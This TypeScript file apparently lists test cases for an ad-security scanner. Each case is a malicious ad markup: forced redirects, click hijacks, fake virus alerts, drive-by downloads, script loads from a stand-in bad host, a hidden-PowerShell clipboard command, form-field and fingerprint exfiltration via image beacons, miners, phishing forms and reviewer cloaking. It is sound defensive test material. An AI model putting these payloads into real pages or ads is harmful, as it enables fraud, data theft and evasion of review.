import type { ThreatClass } from '@vigil/contract'
import type { Way } from './ways.ts'

/** How one sees, from outside, that an attack has worked. */
export type Harm = 'left' | 'window' | 'dialog' | 'download' | 'request' | 'words' | 'sensor'

export interface Attack {
  name: string
  threatClass: ThreatClass
  harm: Harm
  /** What the harm's own words are: of a text that is shown, or of the sensor that notices it. */
  sign?: string
  ways: Way[]
  /** `harmful` is an address whose loading is the harm; `id` is the case's own. */
  markup: (at: { harmful: string; id: string }) => string
  /** A click on the page beside the ad, which some wait for. */
  needsPageClick?: boolean
}

const code = (text: string) => `<p>Shoes, 20% off</p><script>${text}</script>`
const framed: Way[] = ['write', 'srcdoc', 'blob', 'wrapper']
const hiddenCode = (text: string) => code(`eval(atob("${btoa(text)}"))`)
const bad = 'http://malicious.vigil-drill.example'

const leaving: Attack[] = [
  {
    name: 'sets the address of the page at once',
    threatClass: 'forced-redirect',
    harm: 'left',
    ways: [...framed, 'nested', 'late-srcdoc', 'page-script', 'script-of-script'],
    markup: ({ harmful }) => code(`top.location.href = '${harmful}'`),
  },
  {
    name: 'replaces the page after a while',
    threatClass: 'forced-redirect',
    harm: 'left',
    ways: ['write', 'srcdoc', 'wrapper', 'page-write'],
    markup: ({ harmful }) => code(`setTimeout(function () { window.top.location.replace('${harmful}') }, 60)`),
  },
  {
    name: 'hides the redirect in base64 and strict code',
    threatClass: 'forced-redirect',
    harm: 'left',
    ways: ['write', 'srcdoc', 'shadow'],
    markup: ({ harmful }) => hiddenCode(`'use strict'; top.location = '${harmful}'`),
  },
  {
    name: 'takes names apart and redirects in an event handler',
    threatClass: 'forced-redirect',
    harm: 'left',
    ways: ['write', 'inner', 'adjacent'],
    markup: ({ harmful }) => `<p>Shoes</p><img src="data:," onerror="top['loc'+'ation']['hr'+'ef']='${harmful}'">`,
  },
  {
    name: 'redirects in an event handler, in the clear',
    threatClass: 'forced-redirect',
    harm: 'left',
    ways: ['write', 'inner', 'adjacent'],
    markup: ({ harmful }) => `<p>Shoes</p><img src="data:," onerror="top.location.href='${harmful}'">`,
  },
  {
    name: 'sends a form into the page',
    threatClass: 'forced-redirect',
    harm: 'left',
    ways: ['write', 'srcdoc'],
    markup: ({ harmful }) =>
      `<form id="f" action="${harmful}" target="_top"></form>${code("document.getElementById('f').submit()")}`,
  },
  {
    name: 'waits for any touch of the page',
    threatClass: 'forced-redirect',
    harm: 'left',
    needsPageClick: true,
    ways: ['write', 'srcdoc', 'wrapper'],
    markup: ({ harmful }) =>
      code(`parent.document.addEventListener('click', function () { top.location = '${harmful}' })`),
  },
  {
    name: 'opens a window when the page is clicked',
    threatClass: 'forced-redirect',
    harm: 'window',
    needsPageClick: true,
    ways: ['write', 'srcdoc'],
    markup: ({ harmful }) =>
      code(`var p = parent; p['add' + 'EventListener']('mouseup', () => { p.open('${harmful}') })`),
  },
  {
    name: 'clicks a link of its own into the page',
    threatClass: 'click-hijack',
    harm: 'left',
    ways: ['write', 'srcdoc', 'wrapper'],
    markup: ({ harmful }) =>
      code(`var a = document.createElement('a'); a.href = '${harmful}'; a.target = '_top'; a.click()`),
  },
  {
    name: 'makes an event of a click',
    threatClass: 'click-hijack',
    harm: 'left',
    ways: ['write'],
    markup: ({ harmful }) =>
      `<a id="l" href="${harmful}" target="_top">Shoes</a>${code("document.getElementById('l').dispatchEvent(new MouseEvent('click', { bubbles: true }))")}`,
  },
  {
    name: 'lets the page refresh elsewhere',
    threatClass: 'forced-redirect',
    harm: 'request',
    ways: ['write', 'srcdoc', 'wrapper'],
    markup: ({ harmful }) => `<meta http-equiv="refresh" content="0;url=${harmful}"><p>Shoes</p>`,
  },
]

const lures: Attack[] = [
  {
    name: 'says that the phone is infected',
    threatClass: 'fake-alert',
    harm: 'words',
    sign: 'viruses',
    ways: [...framed, 'inner'],
    markup: () => '<h1>Warning</h1><p>Your <b>iPhone</b> has been infected with (13) viruses. Tap to clean.</p>',
  },
  {
    name: 'congratulates, in pieces of code',
    threatClass: 'fake-alert',
    harm: 'words',
    sign: 'gift card',
    ways: ['write', 'srcdoc'],
    markup: () => code(`document.write('Congratulations! You have been' + ' selected: claim your gift card')`),
  },
  {
    name: 'says that a player is out of date, in entities',
    threatClass: 'fake-alert',
    harm: 'words',
    sign: 'Install',
    ways: ['srcdoc', 'declarative-shadow'],
    markup: () => '<p>&#89;our Flash Player is out&nbsp;of date. Install the update</p>',
  },
  {
    name: 'asks again and again',
    threatClass: 'fake-alert',
    harm: 'dialog',
    ways: [...framed],
    markup: () =>
      code(`var n = 0; (function again() { if (n++ < 3) { confirm('Do not leave'); setTimeout(again, 10) } })()`),
  },
  {
    name: 'calls the dialog of the page',
    threatClass: 'fake-alert',
    harm: 'dialog',
    ways: ['write', 'page-script'],
    markup: () => code(`top.alert('Call support')`),
  },
  {
    name: 'sells a permission as a test',
    threatClass: 'push-permission-lure',
    harm: 'words',
    sign: 'robot',
    ways: ['srcdoc'],
    markup: () => '<p>Click "Allow" to confirm that you are not a robot</p>',
  },
]

const downloads: Attack[] = [
  {
    name: 'clicks a file made in the page',
    threatClass: 'drive-by-download',
    harm: 'download',
    ways: ['write', 'srcdoc', 'wrapper'],
    markup: () =>
      code(
        `var a = document.createElement('a'); a.href = URL.createObjectURL(new Blob(['MZ'])); a.download = 'setup.exe'; document.body.appendChild(a); a.click()`,
      ),
  },
  {
    name: 'points a hidden frame at an installer',
    threatClass: 'drive-by-download',
    harm: 'request',
    ways: ['write', 'srcdoc'],
    markup: ({ harmful }) => `<p>Shoes</p><iframe src="${harmful}/setup.exe" style="display:none"></iframe>`,
  },
  {
    name: 'carries a program in a link and clicks it',
    threatClass: 'drive-by-download',
    harm: 'download',
    ways: ['write'],
    markup: () =>
      `<a id="d" download="a.exe" href="data:application/octet-stream;base64,TVo=">x</a>${code("document.getElementById('d').click()")}`,
  },
]

const hosts: Attack[] = (
  [
    ['in the markup', ({ id }) => `<p>Shoes</p><script src="${bad}/${id}/x.js"></script>`],
    [
      'by an element',
      ({ id }) =>
        code(`var s = document.createElement('script'); s.src = '${bad}/${id}/x.js'; document.body.append(s)`),
    ],
    [
      'by writing in pieces',
      ({ id }) =>
        code(
          `document.write('<scr' + 'ipt src="http://malicious.vigil-dr'); document.write('ill.example/${id}/x.js"></scr' + 'ipt>')`,
        ),
    ],
    [
      'by an attribute that comes later',
      ({ id }) =>
        code(
          `var f = document.createElement('iframe'); document.body.prepend(f); f.setAttribute('src', '${bad}/${id}/x.html')`,
        ),
    ],
    [
      'by markup of an element',
      ({ id }) =>
        `<div id="d"></div>${code(`document.getElementById('d').innerHTML = '<iframe src="${bad}/${id}/x.html"></iframe>'`)}`,
    ],
    [
      'in a shadow root',
      ({ id }) =>
        `<div id="d"></div>${code(`var r = document.getElementById('d').attachShadow({ mode: 'closed' }); r.innerHTML = '<iframe src="${bad}/${id}/x.html"></iframe>'`)}`,
    ],
    [
      'in a frame in a frame',
      ({ id }) =>
        code(
          `var f = document.createElement('iframe'); document.body.append(f); f.contentDocument.body.innerHTML = '<iframe src="${bad}/${id}/x.html"></iframe>'`,
        ),
    ],
    [
      'by replacing',
      ({ id }) =>
        `<b id="d"></b>${code(`var s = document.createElement('script'); s.src = '${bad}/${id}/x.js'; document.getElementById('d').replaceWith(s)`)}`,
    ],
  ] as [string, Attack['markup']][]
).map(
  ([how, markup]): Attack => ({
    name: `loads from a known bad host ${how}`,
    threatClass: 'malicious-host',
    harm: 'request',
    ways: ['write', 'srcdoc'],
    markup,
  }),
)

const taking: Attack[] = [
  {
    name: 'asks for notifications',
    threatClass: 'push-permission-lure',
    harm: 'sensor',
    sign: 'notification',
    ways: ['write', 'srcdoc', 'wrapper', 'page-script'],
    markup: () => code('Notification.requestPermission()'),
  },
  {
    name: 'asks where the reader is',
    threatClass: 'push-permission-lure',
    harm: 'sensor',
    sign: 'position',
    ways: ['write'],
    markup: () => code('navigator.geolocation.getCurrentPosition(function () {})'),
  },
  {
    name: 'fills the history of the page',
    threatClass: 'back-button-hijack',
    harm: 'sensor',
    sign: 'history',
    ways: ['write', 'srcdoc', 'wrapper'],
    markup: () =>
      code(`var n = 0; function step() { top.history.pushState({}, '', '#' + n); if (n++ < 20) step() } step()`),
  },
  {
    name: 'waits for the way back',
    threatClass: 'back-button-hijack',
    harm: 'sensor',
    sign: 'popstate',
    ways: ['write', 'srcdoc'],
    markup: () => code(`var t = top; t.addEventListener('popstate', go); function go() {}`),
  },
  {
    name: 'wants the whole screen',
    threatClass: 'click-hijack',
    harm: 'sensor',
    sign: 'screen',
    ways: ['write'],
    markup: () => code('document.documentElement.requestFullscreen().catch(function () {})'),
  },
  {
    name: 'puts a command into the clipboard',
    threatClass: 'push-permission-lure',
    harm: 'sensor',
    sign: 'clipboard',
    ways: ['write', 'srcdoc'],
    markup: () => code(`navigator.clipboard.writeText('powershell -w hidden iwr a.example').catch(function () {})`),
  },
  {
    name: 'listens to what is typed on the page',
    threatClass: 'data-theft',
    harm: 'sensor',
    sign: 'typing',
    ways: ['write', 'srcdoc'],
    markup: () => code(`var d = parent.document; d.addEventListener('keydown', function () {}, true)`),
  },
  {
    name: 'reads the fields of the page',
    threatClass: 'data-theft',
    harm: 'request',
    ways: ['write', 'srcdoc'],
    markup: ({ harmful }) =>
      code(
        `var v = []; parent.document.querySelectorAll('input').forEach(function (f) { v.push(f.value) }); new Image().src = '${harmful}?' + v`,
      ),
  },
  {
    name: 'takes a fingerprint and sends it',
    threatClass: 'data-theft',
    harm: 'request',
    ways: ['write', 'srcdoc', 'wrapper'],
    markup: ({ harmful }) =>
      code(
        `var c = document.createElement('canvas'), x = c.getContext('2d'); x.fillText('abc', 2, 9); var d = c.toDataURL(); new Image().src = '${harmful}?' + d.length + navigator.plugins.length`,
      ),
  },
  {
    name: 'mines with compiled code in workers',
    threatClass: 'cryptomining',
    harm: 'sensor',
    sign: 'miner',
    ways: ['write', 'srcdoc', 'wrapper'],
    markup: () =>
      code(
        `var b = URL.createObjectURL(new Blob(['new WebAssembly.Module(new Uint8Array([0,97,115,109,1,0,0,0])); setTimeout(() => { postMessage(1) }, 350)'])); for (var i = 0; i < 3; i++) { var w = new Worker(b); w.onmessage = function () { top.sensed('miner') } }`,
      ),
  },
  {
    name: 'mines with a worker for every core',
    threatClass: 'cryptomining',
    harm: 'sensor',
    sign: 'miner',
    ways: ['write'],
    markup: () =>
      code(
        `var b = URL.createObjectURL(new Blob(['setTimeout(() => { postMessage(1) }, 350)'])); for (var i = 0; i < 8; i++) { var w = new Worker(b); w.onmessage = function () { top.sensed('miner') } }`,
      ),
  },
  {
    name: 'loads a known miner',
    threatClass: 'cryptomining',
    harm: 'request',
    ways: ['write'],
    markup: ({ id }) => `<p>Shoes</p><script src="http://coinhive.com/lib/${id}.js"></script>`,
  },
]

const pretending: Attack[] = [
  {
    name: 'asks for a password',
    threatClass: 'phishing-form',
    harm: 'words',
    sign: 'Sign in',
    ways: ['write', 'srcdoc', 'inner'],
    markup: ({ harmful }) =>
      `<form action="${harmful}"><b>Sign in to your bank</b><input name="u"><input type="password" name="p"></form>`,
  },
  {
    name: 'asks for a card, made by code',
    threatClass: 'phishing-form',
    harm: 'words',
    sign: 'Verify',
    ways: ['write', 'srcdoc'],
    markup: () => code(`document.write('<form><b>Verify</b><input autocomplete="cc-number"></form>')`),
  },
  {
    name: 'shows reviewers another link',
    threatClass: 'cloaked-landing-page',
    harm: 'words',
    sign: 'Rich',
    ways: ['write', 'srcdoc'],
    markup: ({ harmful }) =>
      `<a id="l" href="https://shoes.example">Rich in a week</a>${code(`if (navigator.webdriver !== 7) { document.getElementById('l').href = '${harmful}' }`)}`,
  },
  {
    name: 'lays an unseen link over the page',
    threatClass: 'click-hijack',
    harm: 'sensor',
    sign: 'overlay',
    ways: ['write', 'srcdoc'],
    markup: ({ harmful }) =>
      code(
        `var a = parent.document.createElement('a'); a.className = 'overlay'; a.href = '${harmful}'; a.style.cssText = 'position:fixed;inset:0;opacity:0.01;z-index:99999'; parent.document.body.appendChild(a)`,
      ),
  },
  {
    name: 'stacks ads upon each other',
    threatClass: 'hidden-ads',
    harm: 'sensor',
    sign: 'stacked',
    ways: ['write', 'srcdoc'],
    markup: () =>
      [1, 2, 3]
        .map(
          (n) =>
            `<iframe class="stacked" src="http://ads.example/plain/ad-${n}" style="position:absolute;left:0;top:0;width:280px;height:200px;border:0"></iframe>`,
        )
        .join(''),
  },
  {
    name: 'loads ads of one pixel',
    threatClass: 'hidden-ads',
    harm: 'sensor',
    sign: 'stacked',
    ways: ['write'],
    markup: () =>
      `<p>Shoes</p>${[1, 2, 3].map((n) => `<iframe class="stacked" src="http://ads.example/plain/ad-${n}" style="width:1px;height:1px;border:0"></iframe>`).join('')}`,
  },
]

export const attacks = [...leaving, ...lures, ...downloads, ...hosts, ...taking, ...pretending]
